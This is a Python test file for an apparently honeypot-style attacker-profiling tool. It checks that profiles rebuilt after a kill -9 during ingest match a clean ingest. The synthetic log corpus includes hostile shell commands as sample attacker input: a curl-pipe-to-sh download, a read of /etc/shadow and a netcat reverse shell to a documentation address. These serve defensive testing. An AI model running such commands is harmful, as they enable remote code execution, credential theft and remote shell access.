"""Profiles share the events' transaction: kill -9 mid-ingest, re-ingest, same profiles."""

from __future__ import annotations

import json
import random
import signal
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path

from tests.support import CliRunner, event_count, spawn_cli, wait_for

PROFILE_TABLES = (
    "profile_smtp_targets", "profile_fingerprints", "profile_probe_state", "profile_ipv6_leaks",
    "profile_credentials", "profile_sessions", "profile_commands", "profile_phases",
    "profile_payloads", "profile_c2", "profile_mail_simhashes", "transcript_input",
    "transcript_sessions", "session_links", "keystroke_simhashes", "profile_rejections",
    "observations",
)
JARMS = ("27d40d40d29d40d1dc42d43d00041d4689ee210389f4f6b4b5b1b93f92252d",
         "2ad2ad0002ad2ad00042d42d00000069d641f34fe76acdc05c40262f8815e5")
COMMANDS = ("uname -a", "curl -fsSL http://203.0.113.80/i.sh | sh", "cat /etc/shadow",
            "nc -e /bin/sh 198.51.100.7 4444")
OFFLINE = {"DECNET_FED_ENRICHMENT_PTR_ENABLED": "0", "DECNET_FED_STORE_BATCH_SIZE": "1000"}


def write_corpus(path: Path, lines: int) -> None:
    """Time-ordered lines touching every profiler, from 400 attackers."""
    rnd = random.Random(11)
    start = datetime(2026, 3, 2, tzinfo=UTC)
    with path.open("w", encoding="utf-8") as out:
        for i in range(lines):
            stamp = (start + timedelta(milliseconds=i)).isoformat()
            n = rnd.randrange(400)
            ip = f"203.0.113.{n % 200}" if n < 200 else f"198.51.100.{n % 200}"
            kind = i % 8
            if kind == 0:
                line = (f'<134>1 {stamp} mail-01 smtp - rcpt_to [relay@55555 src="{ip}"'
                        f' value="<u{i}@victim{i % 7}.com>"]')
            elif kind == 1:
                line = (f'<134>1 {stamp} web-02 sniffer - tls_client_hello [relay@55555'
                        f' src_ip="{ip}" ja3="{rnd.getrandbits(128):032x}" ja4="bad"]')
            elif kind == 2:
                line = (f'<134>1 {stamp} decnet-prober prober - jarm_fingerprint [relay@55555'
                        f' target_ip="{ip}" target_port="443" jarm_hash="{rnd.choice(JARMS)}"]')
            elif kind == 3:
                line = (f"<14>1 {stamp} web-02 bash - - -  CMD uid=0 src={ip}"
                        f" cmd={rnd.choice(COMMANDS)}")
            elif kind == 4:
                line = json.dumps({"eventid": "cowrie.login.failed", "username": "root",
                                   "password": str(i % 50), "session": f"s{n}", "src_ip": ip,
                                   "sensor": "hp-east", "timestamp": stamp})
            elif kind == 5:
                line = (f'<134>1 {stamp} decnet-prober prober - ipv6_link_local_leak'
                        f' [relay@55555 target_ip="{ip}" ipv6_addr="fe80::211:22ff:fe33:{n:x}"]')
            elif kind == 6:
                line = json.dumps({"sid": f"sid{i // 800}", "t": i % 800 * 0.1, "ch": "i",
                                   "d": "abcdefghij"[i % 10]})
            elif i // 8 % 50 == 0:
                line = (f'<134>1 {stamp} mail-01 smtp_relay - message_stored [relay@55555'
                        f' src="{ip}" sha256="{rnd.getrandbits(256):064x}"'
                        f' body_simhash="{rnd.getrandbits(64):016x}"]')
            else:
                line = (f'<134>1 {stamp} web-02 sessrec - session_recorded [relay@55555'
                        f' sid="sid{i // 800}" service="ssh" src_ip="{ip}" duration_s="9"]')
            out.write(line + "\n")


def profile_state(home: Path) -> dict[str, list[tuple[object, ...]]]:
    with sqlite3.connect(home / "node.db") as db:
        state = {t: sorted(db.execute(f"SELECT * FROM {t}").fetchall(), key=repr)  # noqa: S608
                 for t in PROFILE_TABLES}
        state["profile_rotations"] = db.execute(
            "SELECT ip, port, probe, time_us, old_value, new_value FROM profile_rotations"
            " ORDER BY ip, time_us").fetchall()
    return state


def test_kill_9_mid_ingest_then_reingest_gives_the_profiles_of_one_clean_ingest(
        cli: CliRunner, home: Path, tmp_path: Path) -> None:
    corpus = tmp_path / "profiled.log"
    write_corpus(corpus, 120_000)
    cli("init", check=True)

    victim = spawn_cli(home, "ingest", str(corpus), env_extra=OFFLINE)
    wait_for(lambda: event_count(home / "node.db") > 5_000 or victim.poll() is not None,
              "the first batches to commit")
    victim.send_signal(signal.SIGKILL)
    victim.communicate(timeout=30)
    assert victim.returncode == -signal.SIGKILL, "the ingest finished before it could be killed"
    cli("ingest", str(corpus), check=True, env_extra=OFFLINE)
    cli("ingest", str(corpus), check=True, env_extra=OFFLINE)  # and once more: adds nothing

    clean_home = tmp_path / "clean"
    cli("--home", str(clean_home), "init", check=True)
    cli("--home", str(clean_home), "ingest", str(corpus), check=True, env_extra=OFFLINE)

    resumed, clean = profile_state(home), profile_state(clean_home)
    assert all(clean[t] for t in clean), [t for t in clean if not clean[t]]
    for table in clean:
        assert resumed[table] == clean[table], table
